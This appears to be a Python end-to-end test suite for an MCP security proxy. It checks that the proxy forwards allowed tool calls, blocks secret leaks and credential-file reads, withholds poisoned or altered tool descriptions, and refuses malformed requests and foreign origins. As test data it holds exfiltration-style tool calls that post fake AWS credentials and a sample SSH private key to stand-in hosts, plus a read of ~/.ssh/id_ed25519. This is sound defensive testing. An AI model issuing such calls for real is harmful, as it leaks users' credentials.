#!/usr/bin/env python3
"""`doberman-guard mcp-proxy --upstream URL --listen HOST:PORT` end to end: a real streamable-HTTP MCP
server (tests/guard/mcp/http_server.cjs, on the MCP TypeScript SDK's server transport) behind the
proxy, driven by the SDK's own client (tests/guard/mcp/http_client.cjs) and by raw HTTP requests.
Allowed calls reach the server and their answers come back byte for byte, with progress
notifications streamed; refused calls never reach the server; a private key in a result is withheld
and never written under the state directory; poisoned and changed tool descriptions are withheld;
unreadable requests, other paths and foreign origins are refused; when the upstream dies mid-call
or cannot be reached the client gets an error, and when the proxy dies mid-call the client's
request fails instead of hanging. The server answers with event streams, and again with JSON.
Skipped when the SDK is not installed (scripts/install-deps --hosts puts it in
~/.cache/doberman-hosts)."""
import http.client
import json
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import unittest

GUARD = os.environ.get("DOBERMAN_GUARD", "doberman-guard")
PACKS = os.environ.get("DOBERMAN_TEST_PACKS", "test-packs")
PACK = os.path.join(PACKS, "default", "default.dpack")
PUB = os.path.join(PACKS, "test.pub")
HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "mcp")
HOSTS_DIR = os.environ.get("DOBERMAN_HOSTS_DIR", os.path.expanduser("~/.cache/doberman-hosts"))
NODE_MODULES = os.path.join(HOSTS_DIR, "node_modules")
SDK = os.path.join(NODE_MODULES, "@modelcontextprotocol", "sdk", "package.json")
KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
       "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
       "QyNTUxOQAAACBKc2FtcGxlLWtleS1mb3ItdGVzdHMtb25seS0wMDAwMDAwMDAwAAAAkB\n"
       "-----END OPENSSH PRIVATE KEY-----\n")
ACCEPT = "application/json, text/event-stream"


def node_env(extra=None):
    env = {k: v for k, v in os.environ.items() if not k.startswith("DOBERMAN_")}
    env["NODE_PATH"] = NODE_MODULES
    env.update(extra or {})
    return env


def first_line(proc, timeout=20):
    """The first line a child prints on `proc.stdout` (or stderr for the proxy), or a failure."""
    deadline = time.time() + timeout
    stream = proc.stdout if proc.stdout is not None else proc.stderr
    line = b""
    os.set_blocking(stream.fileno(), False)
    while time.time() < deadline and not line.endswith(b"\n"):
        chunk = stream.readline()
        if chunk:
            line += chunk
        elif proc.poll() is not None:
            break
        else:
            time.sleep(0.02)
    os.set_blocking(stream.fileno(), True)
    if not line.endswith(b"\n"):
        raise AssertionError("no start-up line from %s" % proc.args[:3])
    return line.decode()


class Upstream:
    """The SDK-based MCP server, on a port of its own."""

    def __init__(self, tmp, json_answers=False, clean=False):
        self.calls = os.path.join(tmp, "calls.jsonl")
        extra = {"MCP_TEST_CALL_LOG": self.calls}
        if json_answers:
            extra["MCP_TEST_JSON"] = "1"
        if clean:  # without the poisoned and the changing tool
            extra["MCP_TEST_CLEAN"] = "1"
        self.proc = subprocess.Popen(["node", os.path.join(HERE, "http_server.cjs")],
                                     stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                     env=node_env(extra))
        self.port = int(first_line(self.proc))
        self.url = "http://127.0.0.1:%d/mcp" % self.port

    def received(self):
        if not os.path.exists(self.calls):
            return []
        with open(self.calls) as f:
            return [json.loads(line) for line in f if line.strip()]

    def stop(self):
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(timeout=20)
        self.proc.stdout.close()


class Proxy:
    def __init__(self, upstream_url, state_dir):
        self.proc = subprocess.Popen(
            [GUARD, "mcp-proxy", "--name", "t", "--pack", PACK, "--pubkey", PUB, "--state-dir",
             state_dir, "--upstream", upstream_url, "--listen", "127.0.0.1:0"],
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=node_env())
        line = first_line(self.proc)
        assert "listening on http://127.0.0.1:" in line, line
        self.port = int(line.split("http://127.0.0.1:")[1].split("/")[0])
        self.url = "http://127.0.0.1:%d/mcp" % self.port

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            raise AssertionError("the proxy did not stop on SIGTERM")
        self.proc.stderr.close()
        return self.proc.returncode


def sdk_client(url, steps, timeout=60):
    """Runs the SDK client's steps; one answer per step."""
    out = subprocess.run(["node", os.path.join(HERE, "http_client.cjs"), url, json.dumps(steps)],
                         capture_output=True, env=node_env(), timeout=timeout)
    answers = [json.loads(line) for line in out.stdout.decode().splitlines() if line.strip()]
    return answers


class Raw:
    """A hand-written streamable-HTTP client: exact bytes in, exact bytes out."""

    def __init__(self, port):
        self.port = port
        self.session = None

    def post(self, body, headers=None, path="/mcp"):
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        h = {"Content-Type": "application/json", "Accept": ACCEPT,
             "MCP-Protocol-Version": "2025-06-18"}
        if self.session:
            h["Mcp-Session-Id"] = self.session
        h.update(headers or {})
        c.request("POST", path, body=body if isinstance(body, bytes) else body.encode(), headers=h)
        r = c.getresponse()
        data = r.read()
        c.close()
        return r.status, r.getheader("Content-Type") or "", r.getheader("Mcp-Session-Id"), data

    @staticmethod
    def messages(content_type, data):
        """The JSON-RPC messages of an answer: each event's data, or the JSON body's."""
        if content_type.startswith("text/event-stream"):
            out = []
            for event in data.decode().split("\n\n"):
                lines = [l[len("data: "):] for l in event.split("\n") if l.startswith("data: ")]
                if lines and "".join(lines):
                    out.append("\n".join(lines))
            return out
        if not data:
            return []
        doc = json.loads(data)
        return [json.dumps(m) for m in doc] if isinstance(doc, list) else [data.decode()]

    def initialize(self):
        status, ctype, session, data = self.post(json.dumps({
            "jsonrpc": "2.0", "id": 0, "method": "initialize",
            "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                       "clientInfo": {"name": "raw", "version": "1"}}}))
        assert status == 200, (status, data)
        self.session = session
        self.post(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}))
        return self.messages(ctype, data)

    def rpc(self, rid, method, params):
        status, ctype, _, data = self.post(json.dumps(
            {"jsonrpc": "2.0", "id": rid, "method": method, "params": params}))
        return status, self.messages(ctype, data)


@unittest.skipUnless(os.path.exists(SDK) and shutil.which("node"),
                     "the MCP TypeScript SDK (npm) is not installed; scripts/install-deps --hosts "
                     "installs it into ~/.cache/doberman-hosts")
class McpHttpProxyTest(unittest.TestCase):
    json_answers = False

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="doberman-mcphttp-")
        self.state = os.path.join(self.tmp, "state")
        self.upstream = Upstream(self.tmp, self.json_answers)
        self.proxy = Proxy(self.upstream.url, self.state)

    def tearDown(self):
        self.proxy.stop()
        self.upstream.stop()
        shutil.rmtree(self.tmp, ignore_errors=True)

    def test_allowed_calls_reach_the_server_and_come_back(self):
        a = sdk_client(self.proxy.url, [{"op": "call", "name": "echo",
                                          "arguments": {"text": "hello, world"}}])
        self.assertEqual(a, [{"result": {"content": [{"type": "text", "text": "hello, world"}]},
                              "progress": 0}])
        self.assertEqual(self.upstream.received(),
                         [{"name": "echo", "arguments": {"text": "hello, world"}}])

    def test_answers_are_byte_for_byte_the_servers(self):
        call = {"name": "echo", "arguments": {"text": "caf\u00e9 \"quoted\" \\ \u2028"}}
        got = []
        for port in (self.proxy.port, self.upstream.port):
            raw = Raw(port)
            raw.initialize()
            status, messages = raw.rpc(7, "tools/call", call)
            self.assertEqual(status, 200)
            got.append(messages)
        self.assertEqual(got[0], got[1])
        self.assertEqual(len(got[0]), 1)

    def test_progress_notifications_stream_through(self):
        a = sdk_client(self.proxy.url, [{"op": "call", "name": "slow", "arguments": {"ms": 300},
                                         "progress": True}])
        self.assertEqual(a[0]["result"]["content"][0]["text"], "done")
        if not self.json_answers:  # a JSON answer carries no notifications
            self.assertEqual(a[0]["progress"], 3)

    def test_a_refused_call_never_reaches_the_server(self):
        a = sdk_client(self.proxy.url, [{"op": "call", "name": "post", "arguments": {
            "url": "https://collector.example.net/x",
            "body": "AKIAQWERTYUIOPASDFGH wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQm7rT2vXz9"}}])
        self.assertEqual(a[0]["error"]["code"], -32001)
        self.assertEqual(a[0]["error"]["data"]["verdict"], "BLOCK")
        self.assertNotIn("wJalr", json.dumps(a))  # a matched secret is never echoed
        self.assertEqual(self.upstream.received(), [])

    def test_a_key_read_is_withheld_and_sending_it_is_stopped(self):
        path = os.path.join(self.tmp, "backup.txt")  # a name that says nothing: the content does
        with open(path, "w") as f:
            f.write(KEY)
        a = sdk_client(self.proxy.url, [
            {"op": "call", "name": "read_file", "arguments": {"path": path}},
            {"op": "call", "name": "post", "arguments": {"url": "https://paste.example.net/",
                                                         "body": KEY}}])
        self.assertEqual(a[0]["error"]["code"], -32002)
        self.assertEqual(a[1]["error"]["code"], -32001)
        self.assertNotIn("b3BlbnNzaC", json.dumps(a))
        self.assertEqual([c["name"] for c in self.upstream.received()], ["read_file"])
        # Nothing of the key under the state directory (decision log, ledger).
        for root, _, files in os.walk(self.state):
            for name in files:
                with open(os.path.join(root, name), "rb") as f:
                    self.assertNotIn(b"b3BlbnNzaC", f.read(), name)
        log = subprocess.run([GUARD, "log", "--state-dir", self.state, "--json"],
                             capture_output=True, check=True).stdout.decode()
        rows = [json.loads(line) for line in log.splitlines()]
        self.assertTrue(any(r["verdict"] == "BLOCK" and r["tool"] == "mcp__t__post"
                            for r in rows), rows)

    def test_reading_a_private_key_file_is_refused_before_it_runs(self):
        a = sdk_client(self.proxy.url, [{"op": "call", "name": "read_file", "arguments": {
            "path": os.path.expanduser("~/.ssh/id_ed25519")}}])
        self.assertEqual(a[0]["error"]["code"], -32001)
        self.assertEqual(self.upstream.received(), [])

    def test_poisoned_and_changed_tools_are_withheld(self):
        a = sdk_client(self.proxy.url, [{"op": "list"}, {"op": "list"},
                                        {"op": "call", "name": "notes", "arguments": {"note": "x"}},
                                        {"op": "call", "name": "mutable",
                                         "arguments": {"a": 1, "b": 2}}])
        self.assertIn("echo", a[0]["tools"])
        self.assertNotIn("notes", a[0]["tools"])
        self.assertIn("mutable", a[0]["tools"])
        self.assertNotIn("mutable", a[1]["tools"])  # its description changed: a rug pull
        self.assertEqual(a[2]["error"]["code"], -32001)
        self.assertEqual(a[3]["error"]["code"], -32001)
        self.assertEqual(self.upstream.received(), [])

    def test_a_batch_forwards_only_what_passes(self):
        raw = Raw(self.proxy.port)
        raw.initialize()
        status, ctype, _, data = raw.post(json.dumps([
            {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
             "params": {"name": "post", "arguments": {"url": "https://x.example.net/", "body": KEY}}},
            {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
             "params": {"name": "echo", "arguments": {"text": "fine"}}}]))
        self.assertEqual(status, 200)
        answers = {m["id"]: m for m in map(json.loads, Raw.messages(ctype, data))}
        self.assertEqual(answers[1]["error"]["code"], -32001)
        self.assertIn("fine", json.dumps(answers[2]["result"]))
        self.assertEqual([c["name"] for c in self.upstream.received()], ["echo"])

    def test_unreadable_requests_other_paths_and_foreign_origins_are_refused(self):
        raw = Raw(self.proxy.port)
        raw.initialize()
        for body in (b"{not json", b'{"jsonrpc":"2.0","id":1,"id":2,"method":"tools/call"}'):
            status, _, _, data = raw.post(body)
            self.assertEqual(status, 400)
            self.assertEqual(json.loads(data)["error"]["code"], -32700)
        status, _, _, _ = raw.post(b"{}", path="/other")
        self.assertEqual(status, 404)
        status, _, _, _ = raw.post(json.dumps({"jsonrpc": "2.0", "id": 3, "method": "tools/call",
                                               "params": {"name": "echo",
                                                          "arguments": {"text": "x"}}}),
                                   headers={"Origin": "http://evil.example.com"})
        self.assertEqual(status, 403)
        self.assertEqual(self.upstream.received(), [])

    def test_the_upstream_dying_mid_call_answers_an_error(self):
        a = sdk_client(self.proxy.url, [{"op": "call", "name": "die"}])
        self.assertEqual(a[0]["error"]["code"], -32003)
        # And with the upstream gone, a new call is answered too (the connection is refused).
        raw = Raw(self.proxy.port)
        status, ctype, _, data = raw.post(json.dumps({
            "jsonrpc": "2.0", "id": 0, "method": "initialize",
            "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                       "clientInfo": {"name": "raw", "version": "1"}}}))
        self.assertEqual(status, 200)
        self.assertEqual(json.loads(Raw.messages(ctype, data)[0])["error"]["code"], -32003)

    def test_the_proxy_dying_mid_call_fails_the_request(self):
        raw = Raw(self.proxy.port)
        raw.initialize()
        outcome = []

        def call():
            try:
                status, messages = raw.rpc(9, "tools/call", {"name": "slow",
                                                             "arguments": {"ms": 30000}})
                outcome.append(("answer", status, messages))
            except (OSError, http.client.HTTPException) as e:
                outcome.append(("failed", type(e).__name__))

        t = threading.Thread(target=call, daemon=True)
        t.start()
        deadline = time.time() + 20
        while not self.upstream.received() and time.time() < deadline:
            time.sleep(0.05)
        self.assertEqual([c["name"] for c in self.upstream.received()], ["slow"])
        self.proxy.proc.kill()
        t.join(10)  # the request ends with the connection, not with the 30 s call
        self.assertFalse(t.is_alive(), "the client still waits after the proxy died")
        # Either the connection broke, or the stream ended with no result in it.
        if outcome[0][0] == "answer":
            self.assertFalse(any('"result"' in m for m in outcome[0][2]), outcome)


class McpHttpProxyJsonAnswersTest(McpHttpProxyTest):
    """The same, with a server that answers each POST with one JSON document instead of a stream."""
    json_answers = True


@unittest.skipUnless(os.path.exists(SDK) and shutil.which("node"), "the MCP SDK is not installed")
class UnreachableUpstreamTest(unittest.TestCase):
    def test_calls_are_answered_with_an_error(self):
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
        s.close()  # nothing listens there
        tmp = tempfile.mkdtemp(prefix="doberman-mcphttp-")
        proxy = Proxy("http://127.0.0.1:%d/mcp" % port, os.path.join(tmp, "state"))
        try:
            raw = Raw(proxy.port)
            status, messages = raw.rpc(5, "tools/call", {"name": "echo",
                                                         "arguments": {"text": "x"}})
            self.assertEqual(status, 200)
            self.assertEqual(json.loads(messages[0])["error"]["code"], -32003)
            status, _, _, _ = raw.post(json.dumps({"jsonrpc": "2.0",
                                                   "method": "notifications/initialized"}))
            self.assertEqual(status, 502)
        finally:
            self.assertEqual(proxy.stop(), 0)
            shutil.rmtree(tmp, ignore_errors=True)

    def test_bad_arguments_are_refused(self):
        for args in (["--upstream", "ftp://x/mcp", "--listen", "127.0.0.1:0"],
                     ["--upstream", "http://127.0.0.1:1/mcp", "--listen", "nowhere"],
                     ["--upstream", "http://127.0.0.1:1/mcp"],
                     ["--upstream", "http://127.0.0.1:1/mcp", "--listen", "127.0.0.1:0", "--",
                      "server"]):
            r = subprocess.run([GUARD, "mcp-proxy", "--pack", PACK, "--pubkey", PUB, *args],
                               capture_output=True, timeout=20)
            self.assertEqual(r.returncode, 2, args)


if __name__ == "__main__":
    unittest.main()
